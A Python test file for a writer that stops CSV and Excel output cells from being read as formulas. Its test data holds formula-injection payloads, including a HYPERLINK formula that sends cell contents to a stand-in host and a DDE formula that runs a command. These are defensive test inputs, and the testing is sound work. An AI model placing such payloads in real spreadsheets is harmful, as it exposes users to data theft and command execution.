"""The spreadsheet-safe writer: what a spreadsheet would run is written as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from pvmon.sheets import (
    MONEY_FORMAT,
    Money,
    SafeCsvWriter,
    append_row,
    csv_text,
    inert,
    is_formula_like,
    new_sheet,
    yuan,
)


@pytest.mark.parametrize(
    ("text", "formula_like"),
    [
        ("=1+1", True),
        ('=HYPERLINK("http://x.example/?"&A1,"x")', True),
        ("=cmd|' /C calc'!A0", True),
        ("+SUM(1)", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-12.50", False),  # a plain number is not a formula
        ("-7", False),
        ("张三", False),
        ("a=b", False),
        ("", False),
        ("'=x", False),
    ],
)
def test_formula_like(text: str, formula_like: bool) -> None:
    assert is_formula_like(text) is formula_like
    assert inert(text) == ("'" + text if formula_like else text)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (Money(110_000), "1100.00"),
        (Money(-5), "-0.05"),
        (7, "7"),
        (None, ""),
        ("=1", "'=1"),
        ("440102199001011234", "440102199001011234"),
    ],
)
def test_csv_text(value: object, text: str) -> None:
    assert csv_text(value) == text


@pytest.mark.parametrize(
    ("fen", "text"),
    [
        (0, "0.00"),
        (5, "0.05"),
        (110_000, "1100.00"),
        (-4_959, "-49.59"),
        (10**15, "10000000000000.00"),
    ],
)
def test_yuan(fen: int, text: str) -> None:
    assert yuan(fen) == text


_FORMULA_FIRST = st.sampled_from(["=", "+", "-", "@", "\t", "\r"])


@given(first=_FORMULA_FIRST, rest=st.text(max_size=30))
def test_no_text_reaches_a_csv_cell_as_a_formula(first: str, rest: str) -> None:
    buf = io.StringIO()
    SafeCsvWriter(buf).writerow([first + rest, "ok"])
    cell = next(csv.reader(io.StringIO(buf.getvalue())))[0]
    assert not is_formula_like(cell) and cell.endswith(rest)


def test_xlsx_cells_are_typed_text_numbers_and_never_formulas(tmp_path: Path) -> None:
    rows = [
        ['=HYPERLINK("http://x")', "440102199001011234", Money(110_000), "#N/A", "a\x01b"],
        ["@x", "6217000012345678901", Money(-5), "+1", "长" * 40_000],
    ]
    wb = Workbook(write_only=True)
    ws = new_sheet(wb, "S", ["名字", "身份证号", "金额", "x", "y"], rows, lead=[["标题"]])
    for row in rows:
        append_row(ws, row)
    append_row(ws, ["合计", "", Money(109_995)], bold=True)
    wb.save(tmp_path / "s.xlsx")
    sheet = load_workbook(tmp_path / "s.xlsx")["S"]
    assert sheet.freeze_panes == "A3"
    cells = list(sheet.iter_rows(min_row=3))
    assert all(c.data_type != "f" for row in cells for c in row)
    first, second, total = cells
    assert first[0].value == '=HYPERLINK("http://x")' and first[0].quotePrefix
    assert first[1].data_type == "s" and first[1].quotePrefix  # an ID stays text
    assert first[2].value == 1100 and first[2].number_format == MONEY_FORMAT
    assert first[3].value == "#N/A" and first[3].data_type == "s"
    assert first[4].value == "a\ufffdb"
    assert second[2].value == -0.05 and len(second[4].value) == 32_767
    assert total[2].value == pytest.approx(1099.95) and total[0].font.b
